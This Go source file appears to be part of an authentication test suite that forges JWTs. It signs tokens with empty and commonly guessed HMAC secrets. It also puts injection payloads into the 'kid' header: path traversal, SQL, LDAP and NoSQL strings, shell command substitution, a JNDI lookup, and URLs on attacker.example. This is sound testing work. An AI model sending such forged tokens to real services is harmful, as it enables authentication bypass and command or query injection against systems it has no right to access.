package authtest

import (
	"crypto/rsa"
	"strings"
)

// mac returns the HMAC algorithm to attack with: the target's, or else HS256.
func (f *forger) mac() string {
	if family(f.alg) == "HS" {
		return f.alg
	}
	return "HS256"
}

// secretAttacks sign with secrets that the attacker need not steal.
func secretAttacks(f *forger) {
	const guessed = "The secret is in every list of guesses: the key has to be random, and as long as the hash (RFC 8725 §3.5, RFC 7518 §3.2)."
	const told = "The secret stands in the token itself."
	const empty = "An empty secret verifies: a key was looked for, not found, and used all the same (CVE-2019-20933). HMAC takes zeros for the same."
	seen := map[string]bool{}
	try := func(name, secret, why string) {
		if seen[secret] {
			return
		}
		seen[secret] = true
		sign := signHMAC(hashOf(f.mac()), []byte(secret))
		f.add("secret: "+name, f.tokenBy(sign, f.headerAlg(quote(f.mac())), f.payload()), why)
	}
	try("empty", "", empty)
	try("200 zero bytes", strings.Repeat("\x00", 200), empty)
	for _, s := range []string{
		"secret", "password", "changeme", "change-me", "key", "test", "123456", "admin", "jwt", "token",
		"jwt-secret", "jwt_secret", "secretkey", "secret_key", "secret-key", "mysecret", "supersecret",
		"your-256-bit-secret", "your-secret-key", "default", "null", "undefined", "nil", "None", "false", "0", " ", "\n",
		"[object Object]", "keyboard cat", "shhhhh", "s3cr3t",
	} {
		try(quote(s), s, guessed)
	}
	try("32 digits zero", strings.Repeat("0", 32), guessed)
	try("32 letters a", strings.Repeat("a", 32), guessed)
	try("base64 of secret", "c2VjcmV0", guessed)
	try("the algorithm's name", f.alg, told)
	for _, c := range []struct{ name, secret string }{
		{"the key's ID", f.kid},
		{"the audience", f.text("aud")},
		{"the issuer", f.text("iss")},
		{"the subject", f.text("sub")},
		{"the header", f.header()},
		{"the payload", f.payload()},
	} {
		if c.secret != "" {
			try(c.name, c.secret, told)
		}
	}
}

// keyIDAttacks name a key that is not the target's: a kid is compared with the target's
// own, and nothing else is done with it (RFC 8725 §3.10).
func keyIDAttacks(f *forger) {
	long := strings.Repeat("k", 100_000)
	const file = "The kid was opened as a file whose content everybody knows (RFC 8725 §3.10)."
	const query = "The kid was put into a query, which answered with the attacker's key (RFC 8725 §3.10)."
	const fetched = "The kid was fetched (RFC 8725 §3.10)."
	const command = "The kid was run or expanded (RFC 8725 §3.10)."
	const object = "The kid was looked up in an object that has inherited members, and one of those became the secret."
	const unknown = "No key has that ID, and an empty or default one was used (CVE-2019-20933)."
	for _, c := range []struct{ name, kid, secret, why string }{
		{"path to the empty device", "../../../../../../../../dev/null", "", file},
		{"the empty device", "/dev/null", "", file},
		{"Windows's empty device", "NUL", "", file},
		{"file URL of the empty device", "file:///dev/null", "", file},
		{"path with a NUL", "/dev/null\x00.pem", "", file},
		{"encoded path", "..%2f..%2f..%2f..%2fdev%2fnull", "", file},
		{"file with a known number", "/proc/sys/kernel/randomize_va_space", "2\n", file},
		{"file with a known number, trimmed", "/proc/sys/kernel/randomize_va_space", "2", file},
		{"backslashes", `..\..\..\..\windows\nul`, "", file},
		{"SQL that selects a secret", "x' UNION SELECT '" + attackerSecret + "' -- ", attackerSecret, query},
		{"SQL that selects nothing", "x' AND '1'='2", "", query},
		{"SQL that selects null", `x" UNION SELECT NULL -- `, "null", query},
		{"LDAP filter", "*)(userPassword=*", "", query},
		{"NoSQL operator as text", `{"$ne":""}`, "", query},
		{"URL", "https://attacker.example/key", attackerSecret, fetched},
		{"data URL", "data:text/plain," + attackerSecret, attackerSecret, fetched},
		{"command", "$(printf " + attackerSecret + ")", attackerSecret, command},
		{"command after a pipe", "|printf " + attackerSecret, attackerSecret, command},
		{"template", "${''}", "", command},
		{"JNDI", "${jndi:ldap://attacker.example/x}", attackerSecret, command},
		{"__proto__", "__proto__", "[object Object]", object},
		{"constructor", "constructor", "function Object() { [native code] }", object},
		{"toString", "toString", "function toString() { [native code] }", object},
		{"empty", "", "", unknown},
		{"unknown", "no-such-key", "", unknown},
		{"zero", "0", "", unknown},
		{"a star", "*", "", unknown},
		{"the kid itself as the secret", "no-such-secret", "no-such-secret", "The kid was used as the secret."},
		{"100,000 bytes", long, "", unknown},
	} {
		header := headerOf(quote(f.mac()), `"typ":`+quote(f.typ), `"kid":`+quote(c.kid))
		f.add("kid: "+c.name, f.tokenBy(signHMAC(hashOf(f.mac()), []byte(c.secret)), header, f.payload()), c.why)
	}
	for _, c := range []struct{ name, kid string }{
		{"null", "null"}, {"number", "0"}, {"true", "true"}, {"array", "[" + quote(f.kid) + "]"}, {"empty array", "[]"}, {"operator", `{"$ne":""}`}, {"object", `{}`},
	} {
		header := headerOf(quote(f.mac()), `"typ":`+quote(f.typ), `"kid":`+c.kid)
		f.add("kid: "+c.name+", empty secret", f.tokenBy(signHMAC(hashOf(f.mac()), nil), header, f.payload()), "A kid that is no string (RFC 7515 §4.1.4) found a key, or found none and an empty one was used.")
	}
	if _, ok := f.key.(*rsa.PrivateKey); ok {
		header := headerOf(quote(f.alg), `"kid":"no-such-key"`)
		f.add("kid: unknown, RSA signature of zeros", b64(header)+"."+b64(f.payload())+"."+b64(string(make([]byte, 256))), "A key of zeros, under which zeros are right, stands for one that was not found.")
	}
}
